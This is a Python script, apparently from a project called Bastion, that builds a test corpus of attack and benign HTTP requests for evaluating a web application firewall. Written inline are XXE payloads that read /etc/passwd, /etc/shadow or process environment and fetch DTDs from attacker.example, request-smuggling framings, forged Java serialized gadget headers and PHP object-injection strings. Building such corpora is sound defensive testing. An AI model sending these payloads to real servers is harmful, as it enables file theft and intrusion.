"""Build the WAF evaluation corpus: attack and benign HTTP requests as JSON Lines.

    .venv/bin/python bench/waf_corpus.py build        # tests/edge/waf/corpus/*.jsonl (committed)
    .venv/bin/python bench/waf_corpus.py external --mirrors /work/.mirror
                                                     # bench/out/waf-external/ (not committed)

``build`` is deterministic (seeded sampling, content-hash ids): running it again gives the same
files byte for byte. Attack payloads come from ``waf_payloads.py`` (written for Bastion), benign
traffic from ``waf_benign.py``; both are placed by the same functions, with the same ordinary
headers, so nothing but the payload tells an attack from a benign request.

``external`` assembles a second attack corpus from public collections (the OWASP CRS regression
tests, PayloadsAllTheThings, payloadbox's SQLi and XSS lists) read from local git snapshots.
Those files are not ours to commit, so that corpus is written under ``bench/out/`` (ignored by
git) and used by ``bench/waf.py --corpus``. See tests/edge/waf/corpus/README.md.

A record: ``{"id", "method", "target", "headers": [[k, v], ...], "body" | "body_b64",
"family", "source", "placement"}``. ``target`` is the request target exactly as sent
(percent-encoding included); the client adds ``Host`` and ``Content-Length``.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import random
import re
import sys
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

sys.path.insert(0, str(Path(__file__).resolve().parent))

import waf_payloads as P  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
CORPUS_DIR = ROOT / "tests" / "edge" / "waf" / "corpus"
SEED = 20261204
PER_FAMILY = 220

ATTACK_FAMILIES = (
    "sqli", "xss", "rce", "lfi", "rfi", "ssrf", "ssti", "nosqli", "ldap", "xxe", "crlf",
    "smuggling", "java", "php-object", "scanner",
)
FAMILIES = (*ATTACK_FAMILIES, "benign")

Request = dict[str, Any]
Placed = tuple[str, str, list[list[str]], bytes | None, str]  # method, target, headers, body, where

# --- ordinary headers, shared by attacks and benign traffic ------------------------------------

BROWSER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko)"
    " Version/18.0 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15"
    " (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/130.0.6723.102 Mobile Safari/537.36",
]
API_AGENTS = [
    "python-httpx/0.27.2", "okhttp/4.12.0", "axios/1.7.7", "curl/8.5.0", "Go-http-client/2.0",
    "PostmanRuntime/7.42.0", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "MyShop-iOS/5.3.1 (iPhone; iOS 18.1; Scale/3.00)",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.8", "ja,en;q=0.7",
         "en-GB,en;q=0.9,es;q=0.5", "pt-BR,pt;q=0.9,en-US;q=0.8"]


def ordinary_headers(rng: random.Random, *, browser: bool | None = None) -> list[list[str]]:
    if browser is None:
        browser = rng.random() < 0.5
    if browser:
        h = [["user-agent", rng.choice(BROWSER_AGENTS)],
             ["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
             ["accept-language", rng.choice(LANGS)],
             ["accept-encoding", "gzip, deflate, br"]]
        if rng.random() < 0.4:
            h.append(["referer", f"https://shop.example.com/{rng.choice(['', 'cart', 'p/42'])}"])
    else:
        h = [["user-agent", rng.choice(API_AGENTS)], ["accept", "application/json"]]
        if rng.random() < 0.3:
            h.append(["x-request-id", f"{rng.getrandbits(64):016x}"])
    return h


# --- encodings -------------------------------------------------------------------------------

_PCT = re.compile(r"%[0-9A-Fa-f]{2}|%u[0-9A-Fa-f]{4}")


def url_value(payload: str, rng: random.Random, *, plus: bool = False) -> str:
    """Encode a value for a query string or form body the way a client sending it would.

    A payload that already carries percent-escapes is meant to be sent in that form: its
    escapes are kept and only the rest is encoded.
    """
    if _PCT.search(payload):
        return quote(payload, safe="%/:=@!$'()*,;~")
    if plus or rng.random() < 0.5:
        return quote_plus(payload, safe="/:@!$'()*,;~")
    return quote(payload, safe="")


def path_segment(payload: str) -> str:
    return quote(payload, safe="%/:@!$'()*+,;=~")


def printable_ascii(s: str) -> bool:
    return all(0x20 <= ord(c) < 0x7F for c in s)


def xml_escape(s: str) -> str:
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;"))


# --- placements --------------------------------------------------------------------------------

PATHS_GET = ["/api/v1/products", "/search", "/api/v2/users", "/shop/catalog", "/api/orders",
             "/index.php", "/app/report", "/api/v1/documents", "/blog", "/api/items/list"]
PATHS_POST = ["/api/v1/orders", "/api/v1/users", "/login", "/api/comments", "/account/profile",
              "/api/v2/tickets", "/checkout", "/api/v1/search", "/contact", "/api/import"]
PARAMS = ["q", "id", "name", "search", "page", "file", "user", "sort", "filter", "lang", "url",
          "redirect", "category", "email", "callback", "template", "path", "host", "cmd", "ref"]
FAMILY_PARAMS = {
    "lfi": ["file", "path", "page", "doc", "template", "include", "download"],
    "rfi": ["page", "file", "include", "url", "template", "module", "src"],
    "ssrf": ["url", "callback", "webhook", "image_url", "feed", "proxy", "dest", "uri"],
    "rce": ["host", "ip", "cmd", "filename", "domain", "exec", "q", "name"],
    "crlf": ["redirect", "next", "lang", "return_to", "url", "locale"],
    "ldap": ["user", "username", "uid", "cn", "login", "group"],
}
HEADERS_CUSTOM = ["X-Api-Version", "X-Forwarded-Host", "X-Request-Id", "Referer", "User-Agent",
                  "X-Client-Data", "X-Tenant", "X-Forwarded-For", "X-Device-Id", "X-Trace"]


def _param(family: str, rng: random.Random) -> str:
    return rng.choice(FAMILY_PARAMS.get(family, PARAMS))


def _ctx(rng: random.Random) -> list[tuple[str, str]]:
    """One or two ordinary parameters around the payload."""
    pool = [("page", str(rng.randint(1, 9))), ("limit", "20"), ("sort", "created_at"),
            ("lang", "en"), ("v", "2"), ("currency", "EUR"), ("utm_source", "newsletter")]
    return rng.sample(pool, rng.randint(0, 2))


def place_query(p: str, fam: str, rng: random.Random) -> Placed:
    pairs = [f"{k}={v}" for k, v in _ctx(rng)]
    pairs.insert(rng.randint(0, len(pairs)), f"{_param(fam, rng)}={url_value(p, rng)}")
    return "GET", f"{rng.choice(PATHS_GET)}?{'&'.join(pairs)}", ordinary_headers(rng), None, "query"


def place_form(p: str, fam: str, rng: random.Random) -> Placed:
    fields = [f"{k}={v}" for k, v in _ctx(rng)] + ["csrf_token=" + f"{rng.getrandbits(96):024x}"]
    fields.insert(rng.randint(0, len(fields)), f"{_param(fam, rng)}={url_value(p, rng, plus=True)}")
    h = ordinary_headers(rng, browser=True) + [
        ["content-type", "application/x-www-form-urlencoded"]]
    return "POST", rng.choice(PATHS_POST), h, "&".join(fields).encode(), "form"


def _json_nest(value: Any, key: str, rng: random.Random) -> Any:
    shape = rng.randint(0, 3)
    if shape == 0:
        return {key: value, "quantity": 2}
    if shape == 1:
        return {"data": {"type": "orders", "attributes": {key: value, "currency": "EUR"}}}
    if shape == 2:
        return {"items": [{"sku": "A-1001", "note": "gift"}, {"sku": "B-7", key: value}]}
    return {"profile": {"settings": {"display": {key: value}}, "version": 3}}


def place_json_value(p: str, fam: str, rng: random.Random) -> Placed:
    doc = _json_nest(p, _param(fam, rng), rng)
    text = json.dumps(doc, ensure_ascii=rng.random() < 0.5)
    h = ordinary_headers(rng, browser=False) + [["content-type", "application/json"]]
    return rng.choice(["POST", "PUT", "PATCH"]), rng.choice(PATHS_POST), h, text.encode(), "json"


def place_json_key(p: str, fam: str, rng: random.Random) -> Placed:
    doc = _json_nest("1", p, rng)
    h = ordinary_headers(rng, browser=False) + [["content-type", "application/json"]]
    return "POST", rng.choice(PATHS_POST), h, json.dumps(doc).encode(), "json-key"


def place_cookie(p: str, fam: str, rng: random.Random) -> Placed:
    value = quote(p, safe="%/:=@!$'()*+~{}[]<>|`^?&") if not _PCT.search(p) else p
    if not printable_ascii(value) or ";" in value:
        value = quote(p, safe="")
    name = rng.choice(["prefs", "lang", "theme", "tracking", "remember_me", "cart"])
    cookie = f"sessionid={rng.getrandbits(128):032x}; {name}={value}"
    return ("GET", rng.choice(PATHS_GET), ordinary_headers(rng, browser=True) + [
        ["cookie", cookie]], None, "cookie")


def place_header(p: str, fam: str, rng: random.Random) -> Placed | None:
    if not printable_ascii(p):
        return None
    name = rng.choice(HEADERS_CUSTOM)
    h = [x for x in ordinary_headers(rng) if x[0] != name.lower()] + [[name, p]]
    return "GET", rng.choice(PATHS_GET), h, None, "header"


def place_path(p: str, fam: str, rng: random.Random) -> Placed:
    base = rng.choice(["/api/v1/files", "/static", "/download", "/api/users", "/docs"])
    tail = rng.choice(["", "/meta", "/view"])
    return "GET", f"{base}/{path_segment(p)}{tail}", ordinary_headers(rng), None, "path"


def place_xml(p: str, fam: str, rng: random.Random) -> Placed:
    inner = (f"<![CDATA[{p}]]>" if "]]>" not in p and rng.random() < 0.5 else xml_escape(p))
    if rng.random() < 0.3:
        doc = f'<?xml version="1.0"?><order id="7"><item sku="{xml_escape(p)}"/></order>'
    else:
        doc = (f'<?xml version="1.0" encoding="UTF-8"?><request><user><name>{inner}</name>'
               "<role>viewer</role></user></request>")
    h = ordinary_headers(rng, browser=False) + [["content-type", rng.choice(
        ["application/xml", "text/xml"])]]
    return "POST", rng.choice(PATHS_POST), h, doc.encode(), "xml"


def multipart(fields: list[tuple[str, str, str | None, str | None]],
              rng: random.Random) -> tuple[str, bytes]:
    """fields: (name, value, filename, content type)."""
    boundary = f"----WebKitFormBoundary{rng.getrandbits(64):016x}"
    out: list[str] = []
    for name, value, filename, ctype in fields:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        out.append(f"--{boundary}\r\nContent-Disposition: {disp}\r\n")
        if ctype:
            out.append(f"Content-Type: {ctype}\r\n")
        out.append(f"\r\n{value}\r\n")
    out.append(f"--{boundary}--\r\n")
    return f"multipart/form-data; boundary={boundary}", "".join(out).encode()


def place_multipart(p: str, fam: str, rng: random.Random) -> Placed:
    ctype, body = multipart([("title", "Quarterly report", None, None),
                             (_param(fam, rng), p, None, None),
                             ("attachment", "id,total\n1,9.99\n", "report.csv", "text/csv")], rng)
    h = ordinary_headers(rng, browser=True) + [["content-type", ctype]]
    return "POST", rng.choice(PATHS_POST), h, body, "multipart"


Placement = Callable[[str, str, random.Random], Placed | None]
PLACEMENTS: dict[str, Placement] = {
    "query": place_query, "form": place_form, "json": place_json_value,
    "json-key": place_json_key, "cookie": place_cookie, "header": place_header,
    "path": place_path, "xml": place_xml, "multipart": place_multipart,
}
ALL = tuple(PLACEMENTS)
FAMILY_PLACEMENTS: dict[str, tuple[str, ...]] = {
    "sqli": ALL, "xss": ALL,
    "rce": ("query", "form", "json", "cookie", "header", "multipart", "path"),
    "lfi": ("query", "form", "json", "path", "cookie", "header", "multipart"),
    "rfi": ("query", "form", "json", "multipart"),
    "ssrf": ("query", "form", "json", "multipart", "header"),
    "ssti": ("query", "form", "json", "cookie", "header", "path", "multipart"),
    "nosqli": ("query", "form", "json"),
    "ldap": ("query", "form", "json", "cookie"),
    "crlf": ("query", "path", "form", "json", "header", "cookie"),
    "java": ("header", "query", "form", "json", "cookie", "path"),
    "php-object": ("cookie", "query", "form", "json", "multipart"),
}


# --- variants --------------------------------------------------------------------------------

def _random_case(s: str, rng: random.Random) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def variants(fam: str, p: str, rng: random.Random) -> list[str]:
    out = [p]
    if fam == "sqli":
        out += [p.replace(" ", "/**/"), p.replace(" ", rng.choice(["\t", "\n", "  "])),
                _random_case(p, rng), rng.choice(["42", "O", "jane", "1001"]) + p]
    elif fam == "xss":
        out += [_random_case(p, rng), rng.choice(["hello ", "Nice post! ", "x"]) + p]
    elif fam == "rce":
        out += [rng.choice(["example.com", "report.pdf", "8.8.8.8", "42"]) + p]
    elif fam in ("lfi", "ssti", "java", "ldap", "crlf"):
        out += [rng.choice(["", "x", "en", "1"]) + p]
    elif fam in ("ssrf", "rfi"):
        out += [_random_case(p[:5], rng) + p[5:]]
    return list(dict.fromkeys(out))


# --- special builders -------------------------------------------------------------------------

def php_serialized(rng: random.Random) -> str:
    cls = rng.choice(P.PHP_CLASSES)
    props = rng.sample(P.PHP_PROPS, rng.randint(1, 2))
    body = "".join(f's:{len(k)}:"{k}";s:{len(v)}:"{v}";' for k, v in props)
    plus = rng.choice(["", "+"]) if rng.random() < 0.2 else ""
    obj = f'O:{plus}{len(cls)}:"{cls}":{len(props)}:{{{body}}}'
    if rng.random() < 0.3:
        obj = f'a:2:{{i:0;{obj}i:1;s:4:"user";}}'
    return obj


def java_serialized(rng: random.Random) -> bytes:
    cls = rng.choice(["org.apache.commons.collections.functors.InvokerTransformer",
                      "java.util.PriorityQueue",
                      "sun.reflect.annotation.AnnotationInvocationHandler",
                      "org.springframework.beans.factory.ObjectFactory", "java.util.HashMap"])
    raw = cls.encode()
    return (b"\xac\xed\x00\x05sr" + len(raw).to_bytes(2, "big") + raw
            + rng.randbytes(8) + b"\x02\x00\x01L\x00\x05iTypet\x00\x12Ljava/lang/String;xp")


def special_java(rng: random.Random) -> Iterable[Placed]:
    for _ in range(30):
        blob = java_serialized(rng)
        h = ordinary_headers(rng, browser=False)
        yield ("POST", "/invoker/JMXInvokerServlet", h + [
            ["content-type", "application/x-java-serialized-object"]], blob, "body")
        b64 = base64.b64encode(blob).decode()
        yield ("GET", rng.choice(PATHS_GET), ordinary_headers(rng, browser=True) + [
            ["cookie", f"rememberMe={b64}"]], None, "cookie")
        yield place_form(b64, "java", rng)
    for g in P.JAVA:
        if g.startswith(("[", "{")):
            h = ordinary_headers(rng, browser=False) + [["content-type", "application/json"]]
            yield "POST", rng.choice(PATHS_POST), h, g.encode(), "json-body"
        if g.startswith("%{"):
            yield ("POST", "/struts2-showcase/upload.action", ordinary_headers(rng) + [
                ["content-type", g]], b"x", "header")


def special_nosqli(rng: random.Random) -> Iterable[Placed]:
    def flat(prefix: str, value: Any) -> list[str]:
        if isinstance(value, dict):
            return [x for k, v in value.items() for x in flat(f"{prefix}[{k}]", v)]
        if isinstance(value, list):
            return [x for i, v in enumerate(value) for x in flat(f"{prefix}[{i}]", v)]
        v = "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)
        return [f"{quote(prefix, safe='[]$')}={quote_plus(v)}"]

    for field, op in P.NOSQLI_OPERATORS:
        for _ in range(3):
            doc = {"username": rng.choice(["admin", "alice", "root"]), field: op}
            h = ordinary_headers(rng, browser=False) + [["content-type", "application/json"]]
            yield "POST", rng.choice(["/login", "/api/v1/users/find", "/api/auth"]), h, \
                json.dumps(doc).encode(), "json"
            q = "&".join(["username=admin", *flat(field, op)])
            yield "GET", f"{rng.choice(PATHS_GET)}?{q}", ordinary_headers(rng), None, "query"
            fh = ordinary_headers(rng, browser=True) + [
                ["content-type", "application/x-www-form-urlencoded"]]
            yield "POST", "/login", fh, q.encode(), "form"


XXE_DTDS = [
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://attacker.example/xxe">]>',
    '<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts">]>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]>',
    '<!DOCTYPE foo PUBLIC "-//X//Y" "http://203.0.113.7/a.dtd">',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
    '<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>',
    '<!DOCTYPE foo [<!ENTITY % a "<!ENTITY &#x25; b SYSTEM \'file:///etc/shadow\'>"> %a; %b;]>',
    '<!DOCTYPE foo SYSTEM "http://attacker.example/x.dtd">',
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>',
    '<!DOCTYPE data [<!ENTITY file SYSTEM "file:///proc/self/environ">]>',
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "jar:http://attacker.example/a.zip!/b">]>',
    '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>',
]


def special_xxe(rng: random.Random) -> Iterable[Placed]:
    docs = []
    for dtd in XXE_DTDS:
        ref = "&xxe;" if "xxe SYSTEM" in dtd else ("&file;" if "file SYSTEM" in dtd else "&lol3;"
                                                  if "lol3" in dtd else "x")
        docs += [
            f'<?xml version="1.0" encoding="UTF-8"?>{dtd}<foo>{ref}</foo>',
            f'<?xml version="1.0"?>{dtd}<order><id>7</id><note>{ref}</note></order>',
            f'<?xml version="1.0"?>{dtd}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/'
            f'soap/envelope/"><soap:Body><getUser><id>{ref}</id></getUser></soap:Body>'
            "</soap:Envelope>",
            f'<?xml version="1.0" standalone="yes"?>{dtd}<svg xmlns="http://www.w3.org/2000/svg"'
            f' width="128" height="128"><text x="0" y="16">{ref}</text></svg>',
        ]
    for href in ("file:///etc/passwd", "http://attacker.example/x", "/etc/shadow"):
        docs.append('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text"'
                    f' href="{href}"/></foo>')
    for doc in (d for d in docs for _ in range(4)):
        how = rng.randint(0, 4)
        if "<svg" in doc and how < 3:
            ctype, body = multipart([("caption", "my avatar", None, None),
                                     ("avatar", doc, "avatar.svg", "image/svg+xml")], rng)
            yield ("POST", "/account/avatar", ordinary_headers(rng, browser=True) + [
                ["content-type", ctype]], body, "multipart")
        elif how == 3:
            yield place_form(doc, "xxe", rng)[:4] + ("form",)
        elif how == 4:
            yield place_json_value(doc, "xxe", rng)
        else:
            ct = "application/soap+xml" if "soap:" in doc else rng.choice(
                ["application/xml", "text/xml"])
            yield ("POST", rng.choice(PATHS_POST + ["/ws/soap"]), ordinary_headers(
                rng, browser=False) + [["content-type", ct]], doc.encode(), "xml")


def special_smuggling(rng: random.Random) -> Iterable[Placed]:
    smuggled = ["GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n",
                "POST /api/v1/users HTTP/1.1\r\nHost: localhost\r\nContent-Length: 15\r\n\r\nx=1",
                "GPOST / HTTP/1.1\r\nHost: localhost\r\n\r\n",
                "GET /internal/metrics HTTP/1.1\r\nX-Ignore: X"]
    te_values = ["chunked", "xchunked", "chunked, identity", "identity, chunked", "CHUNKED",
                 " chunked", "chunked\t", "x, chunked", "chunk", "gzip, chunked"]
    for te in te_values:
        for s in smuggled:
            body_te = f"0\r\n\r\n{s}"
            body_cl = f"{len(s):x}\r\n{s}\r\n0\r\n\r\n"
            h = ordinary_headers(rng, browser=False) + [
                ["content-type", "application/x-www-form-urlencoded"]]
            # TE.CL and CL.TE shapes: both framings present, disagreeing about the body
            yield ("POST", "/", h + [["transfer-encoding", te], ["content-length", "4"]],
                   body_cl.encode(), "framing")
            yield ("POST", rng.choice(PATHS_POST), h + [
                ["content-length", str(len(body_te))], ["transfer-encoding", te]],
                body_te.encode(), "framing")
    for a, b in [("0", "5"), ("6", "5"), ("44", "0"), ("5", "005")]:
        for s in smuggled[:2]:
            h = ordinary_headers(rng, browser=False)
            yield ("POST", "/", h + [["content-length", a], ["content-length", b]],
                   (s * 2).encode()[: max(int(a), int(b))], "framing")
    for s in smuggled:
        # a smuggled request in a parameter or header value (h2c / request-splitting attempts)
        yield place_query(s, "smuggling", rng)
        yield ("GET", "/", ordinary_headers(rng) + [["upgrade", "h2c"], [
            "http2-settings", "AAMAAABkAARAAAAAAAIAAAAA"], [
                "connection", "Upgrade, HTTP2-Settings"]],
            None, "header")
    for v in ["+4", "-1", "0x10", "4 , 4", "1e2"]:
        yield ("POST", "/api/comments", ordinary_headers(rng, browser=False) + [
            ["content-length", v]], b"a=bc", "framing")


def special_scanner(rng: random.Random) -> Iterable[Placed]:
    for ua in P.SCANNER_AGENTS:
        for _ in range(3):
            h = [x for x in ordinary_headers(rng) if x[0] != "user-agent"] + [["user-agent", ua]]
            path = rng.choice(PATHS_GET + ["/", "/wp-login.php", "/robots.txt", "/.env"])
            yield "GET", path, h, None, "header"
    for name, value in P.SCANNER_HEADERS:
        for _ in range(4):
            yield "GET", rng.choice(PATHS_GET), ordinary_headers(rng) + [[name, value]], None, \
                "header"
    for path in P.SCANNER_PATHS:
        for _ in range(2):
            yield "GET", path, ordinary_headers(rng), None, "path"


SEEDS: dict[str, list[str]] = {
    "sqli": P.SQLI, "xss": P.XSS, "rce": P.RCE, "lfi": P.LFI, "rfi": P.RFI, "ssrf": P.SSRF,
    "ssti": P.SSTI, "nosqli": P.NOSQLI_STRINGS, "ldap": P.LDAP, "crlf": P.CRLF,
    "java": [j for j in P.JAVA if not j.startswith(("[", "{<"))],
}
SPECIAL: dict[str, Callable[[random.Random], Iterable[Placed]]] = {
    "java": special_java, "nosqli": special_nosqli, "xxe": special_xxe,
    "smuggling": special_smuggling, "scanner": special_scanner,
}


# --- records ---------------------------------------------------------------------------------

def record(placed: Placed, family: str, source: str) -> Request:
    method, target, headers, body, where = placed
    rec: Request = {"id": "", "method": method, "target": target, "headers": headers}
    if body is not None:
        try:
            text = body.decode("utf-8")
            rec["body"] = text
        except UnicodeDecodeError:
            rec["body_b64"] = base64.b64encode(body).decode()
    rec.update(family=family, source=source, placement=where)
    return rec


def request_key(rec: Request) -> str:
    """Identity of the request on the wire, ignoring the incidental ordinary headers."""
    body = rec.get("body", rec.get("body_b64", ""))
    salient = [h for h in rec["headers"] if h[0].lower() not in (
        "user-agent", "accept", "accept-language", "accept-encoding", "referer", "x-request-id")
        or rec["placement"] == "header"]
    if rec["placement"] in ("form", "multipart"):
        body = re.sub(r"csrf_token=[0-9a-f]+|----WebKitFormBoundary[0-9a-f]+", "", body)
        salient = [h for h in salient if h[0] != "content-type"]
    return json.dumps([rec["method"], rec["target"].split("?")[-1] if rec["placement"] == "query"
                       else rec["target"], salient, body])


def finish(records: list[Request], prefix: str) -> list[Request]:
    for rec in records:
        digest = hashlib.sha256(json.dumps(
            [rec["method"], rec["target"], rec["headers"], rec.get("body"), rec.get("body_b64")],
            sort_keys=True).encode()).hexdigest()
        rec["id"] = f"{prefix}{rec['family']}-{digest[:10]}"
    records.sort(key=lambda r: (FAMILIES.index(r["family"]), r["id"]))
    return records


def sample_unique(cands: list[Request], n: int, rng: random.Random) -> list[Request]:
    seen: dict[str, Request] = {}
    for c in cands:
        seen.setdefault(request_key(c), c)
    uniq = list(seen.values())
    return uniq if len(uniq) <= n else rng.sample(uniq, n)


def build_attacks(seed: int = SEED, per_family: int = PER_FAMILY) -> list[Request]:
    out: list[Request] = []
    for fam in ATTACK_FAMILIES:
        rng = random.Random(f"{seed}:{fam}")
        cands: list[Request] = []
        if fam == "php-object":
            seeds = [php_serialized(rng) for _ in range(60)]
            seeds += [base64.b64encode(s.encode()).decode() for s in seeds[:15]]
        else:
            seeds = SEEDS.get(fam, [])
        src = f"bastion:bench/waf_payloads.py#{fam}"
        for payload in seeds:
            for v in variants(fam, payload, rng):
                for where in FAMILY_PLACEMENTS.get(fam, ()):
                    placed = PLACEMENTS[where](v, fam, rng)
                    if placed is not None:
                        cands.append(record(placed, fam, src))
        if fam in SPECIAL:
            cands += [record(p, fam, f"bastion:bench/waf_corpus.py#special_{fam.replace('-', '_')}")
                      for p in SPECIAL[fam](rng)]
        out += sample_unique(cands, per_family, rng)
    return finish(out, "a-")


def write_jsonl(path: Path, records: list[Request]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8") as f:
        for rec in records:
            f.write(json.dumps(rec, ensure_ascii=False, separators=(",", ":")) + "\n")


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    b = sub.add_parser("build", help="the committed corpus (deterministic)")
    b.add_argument("--out", type=Path, default=CORPUS_DIR)
    e = sub.add_parser("external", help="a corpus from public collections (not committed)")
    e.add_argument("--mirrors", type=Path, default=Path("/work/.mirror"))
    e.add_argument("--out", type=Path, default=ROOT / "bench" / "out" / "waf-external")
    e.add_argument("--per-family", type=int, default=300)
    args = ap.parse_args(argv)
    if args.cmd == "build":
        import waf_benign

        attacks = build_attacks()
        benign = finish(waf_benign.build(SEED), "b-")
        write_jsonl(args.out / "attacks.jsonl", attacks)
        write_jsonl(args.out / "benign.jsonl", benign)
        print(f"{len(attacks)} attacks, {len(benign)} benign -> {args.out}")
    else:
        import waf_external

        attacks = finish(waf_external.build(args.mirrors, SEED, args.per_family), "x-")
        write_jsonl(args.out / "attacks.jsonl", attacks)
        print(f"{len(attacks)} attacks -> {args.out}")


if __name__ == "__main__":
    main()
